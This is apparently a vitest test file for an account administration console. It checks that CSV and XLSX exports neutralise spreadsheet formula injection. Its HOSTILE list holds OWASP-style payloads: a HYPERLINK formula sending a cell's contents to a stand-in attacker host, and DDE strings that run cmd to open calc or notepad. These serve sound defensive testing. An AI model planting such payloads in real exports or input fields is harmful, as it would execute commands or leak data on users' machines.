// CSV injection: a name, reason or error typed as an Excel formula must never leave the console live, in
// any CSV it writes. Each real export path is driven through its service with hostile text; the files are
// read back with a CSV parser and every cell must be inert (no cell a spreadsheet would run). The XLSX
// writers are read back with exceljs: a string starting with '=' must be a string cell, never a formula.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { splitCsv } from '../../../shared/domain/bulk.ts';
import type { PersonRow } from '../../../shared/domain/people.ts';
import type { TermsVersion } from '../../../shared/idp/terms.ts';
import type { AcceptanceRow } from '../../../shared/operations/policies.ts';
import type { Core } from '../../../src-main/composition/core.ts';
import { openBulkStore } from '../../../src-main/store/bulk-store.ts';
import { resultCsv, writeResultFile } from '../../../src-main/services/bulk/result-file.ts';
import { csvCell, csvDocument, isFormulaLike } from '../../../src-main/services/csv.ts';
import { toCsv, toXlsx } from '../../../src-main/services/people/export.ts';
import { acceptanceCsv } from '../../../src-main/services/policies/terms-service.ts';
import { openJournal } from '../../../src-main/store/journal.ts';
import { useTestCore, type caller } from '../../support/core.ts';

/** What attackers type: OWASP's examples, DDE, and each trigger character. */
const HOSTILE = [
  '=HYPERLINK("https://angriber.invalid/?d="&A1;"Klik her")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+2',
  '\r=1+2',
  '=1+2";=1+2',
];

/** Every cell of a CSV file as a spreadsheet reads it (BOM dropped, quotes undone). */
function cellsOf(text: string): string[] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return splitCsv(text.slice(1), ';').flatMap((r) => r.fields);
}

/** No cell of the file would run; and every hostile text is there, as the text it was, behind an apostrophe. */
function expectInert(text: string, hostile: readonly string[] = HOSTILE): void {
  const cells = cellsOf(text);
  const live = cells.filter((c) => isFormulaLike(c));
  expect(live).toEqual([]);
  for (const h of hostile) {
    expect(cells.some((c) => c === `'${h}` || c.startsWith(`'${h}`) || c.includes(`'${h}`))).toBe(true);
    // Kept quoted in the raw file, so a separator inside it can never start a new cell.
    expect(text).toContain(`"'${h.replaceAll('"', '""')}`);
  }
}

describe('the CSV helper', () => {
  it('neutralises exactly the cells a spreadsheet would run, quoted and with quotes doubled', () => {
    expect(csvCell('=1+2";=1+2')).toBe('"\'=1+2"";=1+2"');
    expect(csvCell("=1+2'\" ;,=1+2")).toBe('"\'=1+2\'"" ;,=1+2"');
    expect(csvCell('-5', 'minimal')).toBe('"\'-5"');
    expect(csvCell('Søren', 'minimal')).toBe('Søren');
    expect(csvCell('a;b', 'minimal')).toBe('"a;b"');
    expect(csvCell(' =1+2')).toBe('" =1+2"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('"42"');
    expect(csvDocument(['A'], [['=x']])).toBe('\uFEFF"A"\r\n"\'=x"\r\n');
    for (const h of HOSTILE) expect(isFormulaLike(h)).toBe(true);
    for (const ok of ['', 'Hanne', '1+2', ' =x', 'x=y', '2026-11-23']) expect(isFormulaLike(ok)).toBe(false);
  });
});

describe('evidence package (haendelser.csv and haendelser.xlsx)', () => {
  const t = useTestCore({ beforeEach, afterEach });
  let core: Core;
  beforeEach(() => {
    core = t.current();
  });

  async function untilDone(c: ReturnType<typeof caller>, id: string) {
    for (let i = 0; i < 600; i++) {
      const r = await core.dispatch('jobs.get', { id }, c);
      if (!r.ok) throw new Error(r.error.message);
      const job = (r.data as { job: { state: string; result: unknown } }).job;
      if (job.state !== 'running') return job;
      await new Promise((res) => setTimeout(res, 20));
    }
    throw new Error('job did not finish');
  }

  it('a reason typed as a formula reaches the auditor as text, in the CSV and in the workbook', async () => {
    const hd = await t.signIn('helpdesk');
    const r = await core.dispatch('people.search', { text: '', limit: 1000 }, hd);
    if (!r.ok) throw new Error(r.error.message);
    const locked = (r.data as { items: Array<{ id: string; locked: boolean }> }).items.filter((p) => p.locked);
    const reasons = HOSTILE.filter((h) => h.trim().length >= 5);
    expect(locked.length).toBeGreaterThanOrEqual(reasons.length);
    for (const [i, reason] of reasons.entries()) {
      const u = await core.dispatch('people.unlockAccount', { personId: locked[i]!.id, reason }, hd);
      expect(u.ok).toBe(true);
    }
    const auditor = await t.signIn('revisor');
    const d = new Date();
    const today = `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
    const ex = await core.dispatch('audit.exportEvidence', { from: today, to: today, scope: { kind: 'all' } }, auditor);
    if (!ex.ok) throw new Error(ex.error.message);
    const job = await untilDone(auditor, (ex.data as { job: { id: string } }).job.id);
    expect(job.state).toBe('succeeded');
    const folder = (job.result as { folder: string }).folder;

    // The reason is stored trimmed (zod), so compare with what the journal holds.
    const stored = reasons.map((h) => h.trim());
    expectInert(readFileSync(join(folder, 'haendelser.csv'), 'utf8'), stored);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(folder, 'haendelser.xlsx'));
    const found: string[] = [];
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          // Never a formula: exceljs reports a formula cell as such (and its `formula`), a string as String.
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string' && stored.includes(cell.value)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            found.push(cell.value);
          }
        }),
      ),
    );
    expect(new Set(found)).toEqual(new Set(stored));
  });
});

describe('people export', () => {
  const row = (displayName: string, username: string): PersonRow => ({
    id: username, source: 'ad', displayName, username, email: `${username}@fjordby.dk`, employeeId: HOSTILE[2]!, ouPath: HOSTILE[3]!,
    ad: { enabled: true, locked: false, passwordLastSet: null, passwordAgeDays: null, passwordExpires: null, accountExpires: null, mustChangePassword: false },
    mitid: { state: 'other', status: HOSTILE[1]!, uuid: null, localCredential: null, allowSigning: null },
    idp: { loaded: true, nsisStatus: HOSTILE[4]!, deviceCount: 0, acceptedTermsVersion: null, locked: false },
    drift: [],
    states: { account: 'active', identity: 'other', signing: 'unknown' },
  });
  const rows = HOSTILE.map((h, i) => row(h, `u${i}`));
  const columns = ['displayName', 'username', 'employeeId', 'ouPath', 'mitidState', 'nsisStatus'];

  it('CSV: every hostile name, number, unit and status is inert', () => {
    expectInert(toCsv(rows, columns).toString('utf8'));
  });

  it('XLSX: a name starting with "=" is a string cell, never a formula', async () => {
    const wb = new ExcelJS.Workbook();
    const file = await toXlsx(rows, columns);
    await wb.xlsx.load(file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer);
    const names: unknown[] = [];
    wb.getWorksheet('Personer')!.eachRow((r, n) => {
      r.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(c.formula).toBeUndefined();
      });
      if (n > 1) {
        expect(r.getCell(1).type).toBe(ExcelJS.ValueType.String);
        names.push(r.getCell(1).value);
      }
    });
    // XML reads a bare CR back as LF (end-of-line normalisation); the text is otherwise as typed.
    expect(names).toEqual(HOSTILE.map((h) => h.replace(/\r/g, '\n')));
  });
});

describe('terms acceptance export', () => {
  it('a hostile name or unit in the acceptance report is inert', () => {
    const version = { version: 3 } as TermsVersion;
    const rows: AcceptanceRow[] = HOSTILE.map((h, i) => ({
      personId: `p${i}`, username: `u${i}`, displayName: h, ouPath: HOSTILE[(i + 1) % HOSTILE.length]!, acceptedVersion: 2, acceptedAt: null, acceptedThisAt: null, state: 'stale',
    }));
    expectInert(acceptanceCsv(version, rows));
  });
});

describe('bulk result file', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'lia-csv-bulk-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('hostile names and error texts written to the result file on disk are inert', () => {
    const journal = openJournal(join(dir, 'journal.sqlite'));
    try {
      const store = openBulkStore(journal.file);
      store.createJob(
        { id: 'j1', action: 'assign-local', targetKind: 'ou', targetLabel: 'Enhed', createdBy: 'admin' },
        HOSTILE.map((h, i) => ({
          personId: `id-${i}`, username: `u${i}`, displayName: h, dn: `CN=u${i},OU=Skoler,DC=k,DC=dk`,
          person: { username: `u${i}`, givenName: 'A', surname: 'B', email: `u${i}@k.dk` }, plan: 'create' as const, skipReason: null,
        })),
      );
      for (let i = 0; i < HOSTILE.length; i++) {
        const r = store.claimNext('j1')!;
        store.finishRow('j1', r.seq, { state: 'failed', error: HOSTILE[HOSTILE.length - 1 - i]!, errorCode: 'x' });
      }
      const job = store.getJob('j1')!;
      const written = writeResultFile(join(dir, 'out'), job, store.allRows('j1'));
      const onDisk = readFileSync(written.path, 'utf8');
      expect(onDisk).toBe(resultCsv(job, store.allRows('j1')));
      expectInert(onDisk);
      expect(readdirSync(join(dir, 'out'))).toEqual([written.fileName]);
    } finally {
      journal.close();
    }
  });
});

describe('no CSV writer outside the helper', () => {
  it('only services/csv.ts formats CSV: nothing in main imports csv-stringify or writes its own quoting', () => {
    const root = join(import.meta.dirname, '../../../src-main');
    const files = (readdirSync(root, { recursive: true }) as string[]).filter((f) => f.endsWith('.ts'));
    const offenders = files.filter((f) => /from ['"]csv-stringify/.test(readFileSync(join(root, f), 'utf8')));
    expect(offenders).toEqual([]);
  });
});
